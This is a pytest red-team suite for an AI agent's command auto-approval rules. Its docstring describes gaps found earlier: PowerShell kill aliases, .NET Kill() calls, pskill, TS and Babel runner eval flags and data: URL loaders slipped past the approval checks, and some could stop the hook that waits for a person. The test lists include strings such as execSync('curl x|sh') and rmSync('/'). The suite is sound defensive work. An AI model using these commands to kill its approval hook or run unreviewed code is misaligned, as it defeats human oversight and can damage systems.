"""Red team, two classes left open by the last session.

R12.6, SPEC §5 "where it runs": PowerShell's other spellings of a hook stopper. Stop-Process, spps, taskkill and
tskill were read (permissions.commands.windows: a name Brabo's hook client may run as, or processes picked only
when it runs, may be the hook waiting for a person); PowerShell's ``kill`` -- Stop-Process' alias -- was read only
as kill(1): ``kill -Name python`` and ``gps python | kill`` were auto-approved off the sandbox while
``Stop-Process -Name python`` and ``Get-Process python | Stop-Process`` asked. So were a Process object's .NET
``Kill()`` (``(Get-Process python).Kill()``, ``gps python | % Kill``, a WMI process' ``Terminate()``), Sysinternals' pskill and
pssuspend, Debug-Process (the debugger holds the process at a break) and an alias made for a stopper
(``Set-Alias k Stop-Process; k -Name python``: what the new name is given is not read under it).
Now ``kill`` is read as Stop-Process where it picks as Stop-Process does (one of its parameters, or no operand:
the pipeline's processes), the method by the command's text, pskill/pssuspend by their operands. The pipeline
form fails closed whatever lists it (the hook may be the python process waiting for a person); a pid alone
(``kill 1234``) is the same process in both readings and stays, as ``Stop-Process -Id 1234`` does, and a name
that is not the hook's (``kill -Name node``) stays, as ``Stop-Process -Name node`` and ``pkill node`` do.

R4.9, R4.8: node's TypeScript and Babel runners read as node is. tsx, esno, ts-node and bun were; ts-node's own
bins (``ts-node-esm``, ``ts-node-script``, ``ts-node-cwd``, ``ts-node-transpile-only``), babel-node, tsm and
sucrase-node ran ``-e``/``--eval``/``-p`` code unread (and babel-node's prompt read its input), and ts-node,
ts-node-dev, node-dev, vite-node, babel-node and tsm handed ``--inspect=0.0.0.0`` on unread. Where a runner's
own parser may refuse node's option (ts-node's ``--inspect``), it is read as listening all the same: fail closed.
And the module loaders of node, its runners, bun and deno given their code as a ``data:`` URL (``node --import
'data:text/javascript,…' a.js``, ``deno run 'data:…'``) or the input (``node -r /dev/stdin a.js``) ran code no
rule reads: inline code now (R4.9), as ``-e`` is.
"""

from __future__ import annotations

import pytest

from .redteam import never_auto_where, stays_auto_where

OFF_SANDBOX = ("host", "agent")

HOOK_STOPPERS = [
    "kill -Name python",
    "kill -Name brabo",
    "kill -n python",
    "kill -N python3",
    "kill -Name py*",
    "kill -ProcessName python",
    "kill -Name:python",
    "kill -Force -Name python",
    "kill -Name 'python', 'node'",
    "KILL -Name python",
    "Kill -name Python",
    "microsoft.powershell.management\\kill -Name python",
    "gps python | kill",
    "gps node | kill",
    "Get-Process | kill",
    "Get-Process -Name python | kill",
    "(Get-Process python).Kill()",
    "(gps python).Kill()",
    "(Get-Process node).Kill()",
    "(ps python).kill()",
    "(Get-Process -Id 42).KILL()",
    "Get-Process python | ForEach-Object Kill",
    "gps python | % Kill",
    "gps python | % -MemberName Kill",
    "gps | foreach Kill",
    "Get-Process python | Foreach-Object -MemberName Kill",
    "pskill -t python",
    "pskill -nobanner python3",
    "(Get-WmiObject Win32_Process -Filter \"name='python.exe'\").Terminate()",
    "Get-WmiObject Win32_Process | % Terminate",
    "Set-Alias k Stop-Process; k -Name python",
    "sal k spps",
    "New-Alias -Name k -Value Stop-Process",
    "Set-Alias -Name k -Value:Stop-Process",
    "nal k kill",
    "Debug-Process -Name python",
    "pskill python",
    "pskill.exe python.exe",
    "pskill64 -t python",
    "pssuspend python",
    "pssuspend64.exe brabo",
]


@pytest.mark.parametrize("command", HOOK_STOPPERS)
def test_powershells_other_hook_stoppers_are_never_auto_off_the_sandbox(command: str) -> None:
    never_auto_where(command, OFF_SANDBOX)


STOPPERS_ALREADY_READ = [
    "Stop-Process -Name python",
    "spps -Name python",
    "Get-Process node | Stop-Process",
    "ps node | spps",
    "taskkill /IM python.exe /F",
    "tskill python",
    # read by kill(1)'s reading (a variable, a listing piped to kill) or unreadable (a UNC host) already
    "kill -InputObject $p",
    "ps node | kill -Force",
    "$p = Get-Process python | kill",
    "pskill \\\\localhost -u me -p pw python",
]


@pytest.mark.parametrize("command", STOPPERS_ALREADY_READ)
def test_guards_the_stoppers_read_before(command: str) -> None:
    """(These pass on the base too: the readings the aliases are made consistent with.)"""
    never_auto_where(command, OFF_SANDBOX)


STOPPER_FRICTION = [
    "kill 1234",
    "kill -9 1234",
    "kill -TERM 1234",
    "kill -s TERM 1234",
    "kill -n 9 1234",
    "kill %1",
    "kill -l",
    "kill $(cat server.pid)",
    "kill -Id 1234",
    "kill -Name node",
    "Stop-Process -Id 1234",
    "Stop-Process -Name node",
    "pskill 1234",
    "Get-Process",
    "gps node",
    "Set-Alias ll Get-ChildItem",
    "Debug-Process -Id 1234",
    'rg "child.kill(" src',
    "grep -rn 'process.kill' src",
]


@pytest.mark.parametrize("command", STOPPER_FRICTION)
def test_friction_a_pid_or_a_name_not_the_hooks_stays(command: str) -> None:
    """(These pass on the base too: guards.)"""
    stays_auto_where(command, OFF_SANDBOX)


TS_RUNNER_CODE = [
    'ts-node-esm -e \'require("child_process").execSync("curl x|sh")\'',
    "ts-node-script -p x",
    "ts-node-cwd --eval x",
    "ts-node-transpile-only -e x",
    "ts-node-esm --eval=x",
    "ts-node-esm -pe x",
    "babel-node -e x",
    "babel-node --eval x",
    "babel-node --eval=x",
    "babel-node -p x",
    "babel-node --print x",
    "babel-node --presets @babel/preset-env -e x",
    "babel-node --presets @babel/preset-env",
    'echo \'require("fs").rmSync("/")\' | babel-node',
    "echo x | ts-node-esm",
    "tsm -e x",
    "tsm --eval=x",
    "tsm -p x",
    "sucrase-node -e x",
    "npx babel-node -e x",
    "npx ts-node-esm -e x",
    "pnpm exec babel-node -e x",
    "bunx tsm -e x",
    # a module loader given its code as a data: URL, or the input
    'node --import \'data:text/javascript,import cp from "child_process";cp.execSync("curl x|sh")\' a.js',
    "node --import=data:text/javascript,x a.js",
    "node --loader data:text/javascript,x a.js",
    "node --experimental-loader=data:text/javascript,x a.js",
    "node20 --import data:text/javascript,x a.js",
    "tsx --import 'data:text/javascript,x' src/x.ts",
    "ts-node -r data:text/javascript,x src/x.ts",
    "bun --preload /dev/stdin src/x.ts",
    "node -r /dev/stdin a.js",
    "node --import /dev/stdin a.js",
    "node 'data:text/javascript,x'",
    "deno run 'data:application/typescript,Deno.exit(0)'",
    "deno run -A DATA:text/javascript,x",
]


@pytest.mark.parametrize("command", TS_RUNNER_CODE)
def test_ts_runners_inline_code_is_opaque(command: str) -> None:
    never_auto_where(command)


TS_RUNNER_LISTENERS = [
    "ts-node --inspect=0.0.0.0 src/index.ts",
    "ts-node-esm --inspect=0.0.0.0:9229 src/index.ts",
    "ts-node-dev --inspect=0.0.0.0 src/index.ts",
    "ts-node-dev --respawn --inspect=0.0.0.0:9229 src/index.ts",
    "tsnd --inspect=0.0.0.0 src/index.ts",
    "node-dev --inspect=0.0.0.0 app.js",
    "vite-node --inspect=0.0.0.0 src/x.ts",
    "babel-node --inspect=0.0.0.0 app.js",
    "babel-node --inspect-brk=0.0.0.0:9229 app.js",
    "tsm --inspect=0.0.0.0 src/x.ts",
    "sucrase-node --inspect=[::]:9229 src/x.ts",
    "npx ts-node --inspect=0.0.0.0 src/index.ts",
]


@pytest.mark.parametrize("command", TS_RUNNER_LISTENERS)
def test_ts_runners_inspector_on_every_interface_is_never_auto(command: str) -> None:
    never_auto_where(command)


TS_RUNNERS_ALREADY_READ = [
    "tsx -e x",
    "tsx --eval x",
    "esno -p x",
    "ts-node -e x",
    "ts-node -p x",
    "bun -e x",
    "deno eval x",
    "tsx --inspect=0.0.0.0 a.ts",
    "bun --inspect=0.0.0.0:6499 a.ts",
]


@pytest.mark.parametrize("command", TS_RUNNERS_ALREADY_READ)
def test_guards_the_runners_read_before(command: str) -> None:
    """(These pass on the base too.)"""
    never_auto_where(command)


TS_RUNNER_FRICTION = [
    "ts-node src/index.ts",
    "ts-node-esm src/index.ts",
    "ts-node -r tsconfig-paths/register src/index.ts",
    "ts-node --transpile-only scripts/seed.ts",
    "babel-node app.js",
    "babel-node --presets @babel/preset-env app.js",
    "babel-node -r dotenv/config app.js",
    "tsm src/x.ts",
    "sucrase-node src/x.ts",
    "ts-node-dev --respawn src/index.ts",
    "tsnd --respawn --transpile-only src/index.ts",
    "node-dev app.js",
    "vite-node src/x.ts",
    "vite-node --watch src/x.ts",
    "ts-node-dev --inspect=127.0.0.1:9229 src/index.ts",
    "ts-node --inspect src/index.ts",
    "tsx src/x.ts",
    "npx ts-node src/index.ts",
    "node --import tsx src/x.ts",
    "node --import ./register.mjs a.js",
    "node -r dotenv/config a.js",
    "tsx --import ./x.mjs src/x.ts",
    "deno run main.ts",
    "deno run -A --watch main.ts",
]


@pytest.mark.parametrize("command", TS_RUNNER_FRICTION)
def test_friction_ts_runners_running_a_file_stay(command: str) -> None:
    """(These pass on the base too: guards.)"""
    stays_auto_where(command)
